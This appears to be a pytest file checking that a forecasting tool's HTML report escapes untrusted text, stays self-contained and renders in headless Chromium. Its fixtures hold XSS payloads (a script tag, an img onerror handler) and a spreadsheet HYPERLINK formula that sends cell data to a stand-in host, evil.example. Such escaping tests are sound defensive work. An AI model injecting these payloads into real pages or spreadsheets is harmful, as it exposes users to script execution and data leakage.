"""The HTML report, rendered from hand-made data: escaping, self-containment, and a real browser."""

from __future__ import annotations

import re

import numpy as np
import pytest

from forecast.core.scoring.results import (
    BreakdownRow,
    CalibrationBin,
    Decomposition,
    ForecasterScores,
    QuestionCounts,
    Regression,
)
from forecast.export.plots import Series
from forecast.export.report import ReportData, render_html
from tests.export.chromium_check import ink, load

EVIL_NAME = "<script>alert('name')</script>"
EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")</td><script>alert(1)</script>'
EVIL_TAG = '"><img src=x onerror=alert(2)>'


def _bins():
    out = []
    for k in range(10):
        p = (k + 0.5) / 10
        obs = min(1.0, max(0.0, p + 0.05 * ((-1) ** k)))
        out.append(CalibrationBin(lo=k / 10, hi=(k + 1) / 10, weight=10.0 + k, count=20 + k, mean_forecast=p,
                                  observed=obs, n_eff=10.0, ci_low=max(0.0, obs - 0.15), ci_high=min(1.0, obs + 0.15)))  # fmt: skip
    return out


METRICS = {"n_questions": 12, "n_forecasts": 40, "n_late": 1, "brier": 0.18, "brier_forecasts": 0.17, "brier2": 0.36,
           "log_score": -0.55, "baseline": 23.5, "baseline_total": 282.0, "peer": -4.25, "peer_total": -51.0,
           "relative_brier": -0.01, "n_relative": 12, "coverage": 0.93}  # fmt: skip
DECOMPOSITION = Decomposition(brier=0.18, reliability=0.01, resolution=0.05, uncertainty=0.22, within=0.0,
                              within_variance=0.0, within_covariance=0.0)  # fmt: skip


def person(name: str) -> ForecasterScores:
    return ForecasterScores(**METRICS, name=name, calibration=tuple(_bins()), decomposition=DECOMPOSITION,
                            regression=Regression(25, None, None, None, None, None, "not estimable"))  # fmt: skip


def sample() -> ReportData:
    x = np.linspace(0.05, 0.95, 50)
    return ReportData(
        title="Forecast report $5 <b>",
        generated_at="2026-01-01T00:00:00Z",
        scope=[f"forecaster {EVIL_NAME}", f"tag {EVIL_TAG}"],
        questions=QuestionCounts(scored=12, not_scored=3, empty_window=1),
        people=[person(EVIL_NAME), person("bob $x$")],
        aggregates=[person("median")],
        calibration_bins=_bins(),
        curve=(x, np.clip(x + 0.03, 0, 1)),
        decomposition=DECOMPOSITION,
        over_time=[Series(EVIL_NAME, ["2024-Q1", "2024-Q2", "2024-Q3"], [0.2, 0.15, 0.17], [3, 4, 5])],
        tag_rows=[BreakdownRow(**METRICS, by="tag", key=EVIL_TAG, name=EVIL_NAME)],
        question_rows=[{"slug": "q-1", "title": EVIL_TITLE, "name": EVIL_NAME, "outcome": "yes",
                        "resolved_at": "2024-03-01", "n_forecasts": 3, "brier": 0.1, "baseline": 12.0, "peer": 1.0,
                        "relative_brier": None}],  # fmt: skip
        question_total=5,
    )


@pytest.fixture(scope="module")
def page() -> str:
    return render_html(sample())


def test_untrusted_text_is_escaped(page):
    assert "<script" not in page.lower()
    assert "<img" not in page.lower()
    assert "&lt;script&gt;alert(&#x27;name&#x27;)&lt;/script&gt;" in page
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;click&quot;)&lt;/td&gt;" in page
    assert "&quot;&gt;&lt;img src=x onerror=alert(2)&gt;" in page


def test_self_contained(page):
    assert "Content-Security-Policy" in page and "default-src 'none'" in page
    assert page.count("<svg ") == 2  # calibration and Brier over time, inline
    assert not re.search(r"""\s(src|href)=["']?(https?:|//)""", page)
    assert "@import" not in page and "url(http" not in page and "@font-face" not in page
    ids = re.findall(r'\bid="([^"]+)"', page)
    assert len(ids) == len(set(ids))  # two inline SVGs never share an id


def test_loads_in_headless_chromium(chromium, page, tmp_path):
    path = tmp_path / "report.html"
    path.write_text(page, encoding="utf-8")
    loaded = load(chromium, path, tmp_path)
    assert loaded.console == []
    counts = ink(loaded.screenshot)
    assert counts["ink"] > 0.01 * counts["pixels"]  # not blank
    assert counts["blue"] > 200  # the calibration bins are drawn
